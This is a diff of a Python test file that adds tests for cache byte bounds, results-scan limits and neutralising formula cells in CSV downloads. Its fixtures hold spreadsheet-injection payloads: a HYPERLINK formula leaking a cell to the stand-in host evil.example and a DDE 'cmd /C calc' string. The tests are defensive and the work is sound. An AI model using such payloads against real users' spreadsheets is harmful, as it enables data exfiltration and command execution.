@@ -23,7 +23,7 @@ from fca_workbench.cli import build_parser, main
 from fca_workbench.foundation.errors import UserError
 from fca_workbench.results.schema import validate_audit
 from fca_workbench.viewmodel.escaping import markdown_text, plotly_text
-from fca_workbench.viewmodel.results_folder import ResultsFolder, SizedCache
+from fca_workbench.viewmodel.results_folder import ResultsFolder, byte_bounded_cache, keep, kept
 from fca_workbench.viewmodel.serving import ServedHosts, serving_auth
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -182,12 +182,129 @@ def test_results_are_scanned_in_a_worker_thread(tmp_path):
 
 
 def test_caches_are_bounded_by_bytes():
-    cache = SizedCache(100)
+    cache, lock = byte_bounded_cache(100), threading.Lock()
     for key in range(10):
-        cache.put(key, key, 30)
-    assert cache.bytes <= 100 and cache.get(9) == 9 and cache.get(0) is None
-    cache.put("big", "x", 101)
-    assert cache.get("big") is None and cache.bytes <= 100
+        keep(cache, lock, key, key, 30)
+    assert cache.currsize <= 100 and kept(cache, lock, 9) == 9 and kept(cache, lock, 0) is None
+    keep(cache, lock, "big", "x", 101)
+    assert kept(cache, lock, "big") is None and cache.currsize <= 100
+
+
+# ------------------------------------------------------------------------------------------------ downloads
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
+FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def _cells(csv_text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+
+
+def _formula_cells(csv_text: str) -> list[str]:
+    """Cells a spreadsheet would evaluate: beginning like a formula and not a plain number."""
+    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+    return [c for c in _cells(csv_text) if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]
+
+
+def test_a_download_neutralises_formula_cells_and_keeps_numbers_numbers():
+    from fca_workbench.results.tabular import Column, make_table
+    from fca_workbench.viewmodel.downloads import download_csv
+
+    columns = [Column("name", "name", "text"), Column("delta", "ΔNLL", "delta"), Column("n", "n", "int")]
+    rows = [{"name": text, "delta": -0.5 / (i + 1), "n": -i} for i, text in enumerate([*FORMULAS, "-0.25", "plain"])]
+    text = download_csv(make_table("t", "t", columns, rows))
+    assert _formula_cells(text) == []
+    back = pd.read_csv(__import__("io").StringIO(text), keep_default_na=False)
+    assert list(back["name"]) == ["'" + f for f in FORMULAS] + ["-0.25", "plain"]  # a number stays as it is
+    assert list(back["delta"]) == [row["delta"] for row in rows] and list(back["n"]) == [row["n"] for row in rows]
+
+
+def test_every_table_the_results_view_offers_is_neutralised(tmp_path):
+    """A folder named like a formula and a model arch holding one: the overview's CSV, every table of the detail
+    view and every table of the comparison carry them as text."""
+    import results_view
+
+    from fca_workbench.viewmodel.compare import comparison
+    from fca_workbench.viewmodel.results_overview import overview_of
+
+    root = tmp_path / "results"
+    for name in ("=1+1", "@other"):
+        (root / name).mkdir(parents=True)
+        model = {**minimal_audit()["model"], "arch": HYPERLINK, "path": f"/models/{name}"}
+        (root / name / "audit.json").write_text(json.dumps(minimal_audit(model=model)))
+    results = ResultsFolder(root)
+    entries = results.scan()
+    overview = overview_of(entries).csv("audit", "ascending")
+    assert "'=1+1" in _cells(overview) and "'" + HYPERLINK in _cells(overview)
+    offered = [overview]
+    for entry in entries:
+        parts, _ = results_view.rendered(entry, results.full(entry))
+        offered += [csv for *_, csv in parts]
+    both = [results.full(entry) for entry in entries]
+    offered += [
+        __import__("fca_workbench.viewmodel.downloads", fromlist=["download_csv"]).download_csv(table)
+        for table in comparison(*both, ("=1+1", "@other")).tables
+    ]
+    assert len(offered) > 4 and all(_formula_cells(text) == [] for text in offered)
+
+
+def test_the_dashboard_writes_every_csv_through_one_function():
+    """No module of the app or the view model writes a table's CSV except through ``downloads.download_csv``."""
+    sources = [*(ROOT / "dashboards").glob("*.py"), *(ROOT / "fca_workbench" / "viewmodel").glob("*.py")]
+    direct = [p.name for p in sources if p.name != "downloads.py" and re.search(r"\bto_csv\(", p.read_text())]
+    assert direct == []
+
+
+# ------------------------------------------------------------------------------------------------ overview bounds
+
+
+def _padded(root: Path, count: int) -> Path:
+    """``count`` audits, each with 2 MiB the overview never shows (a long per-layer sweep and padding)."""
+    sweep = [{**minimal_audit()["per_layer"][0], "layer": layer} for layer in range(5000)]
+    for index in range(count):
+        (root / f"a{index}").mkdir(parents=True)
+        audit = minimal_audit(per_layer=sweep, padding="x" * (1 << 20))
+        (root / f"a{index}" / "audit.json").write_text(json.dumps(audit))
+    return root
+
+
+def test_a_scan_holds_only_the_summary_fields_and_reads_the_rest_when_shown(tmp_path):
+    results = ResultsFolder(_padded(tmp_path / "results", 2))
+    entries = results.scan()
+    assert [e.problem for e in entries] == [None, None]
+    for entry in entries:
+        held = len(json.dumps(entry.audit))
+        assert held < 8 << 10, held  # of about 2 MiB on disk
+        assert "per_layer" not in entry.audit and "padding" not in entry.audit
+        whole = results.full(entry)
+        assert len(whole["per_layer"]) == 5000 and len(whole["padding"]) == 1 << 20
+        assert {k: whole[k] for k in ("conditions", "execution", "verdict")} == {
+            k: entry.audit[k] for k in ("conditions", "execution", "verdict")
+        }
+
+
+def test_a_scan_holds_at_most_its_byte_bound_of_summaries(tmp_path):
+    root = _padded(tmp_path / "results", 4)
+    one = len(json.dumps(ResultsFolder(root).scan()[0].audit))
+    entries = ResultsFolder(root, overview_bytes=2 * one + one // 2).scan()
+    assert [e.audit is not None for e in entries] == [True, True, False, False]
+    assert all("not listed: the overview holds at most" in e.problem for e in entries[2:])
+
+
+def test_a_scan_parses_no_new_file_past_its_time_bound_and_the_next_scan_goes_on(tmp_path):
+    """A clock that moves 10 s at each look: the scan looks once to start and once before each file it parses."""
+    import itertools
+
+    ticks = itertools.count(0, 10)
+    results = ResultsFolder(_padded(tmp_path / "results", 3), scan_seconds=15, clock=lambda: next(ticks))
+    first = results.scan()
+    assert [e.audit is not None for e in first] == [True, False, False]
+    assert "this scan reached its 15 s bound" in first[1].problem
+    second = results.scan()  # the first is kept: only the second is parsed in time
+    assert [e.audit is not None for e in second] == [True, True, False]
 
 
 # ------------------------------------------------------------------------------------------------ credentials
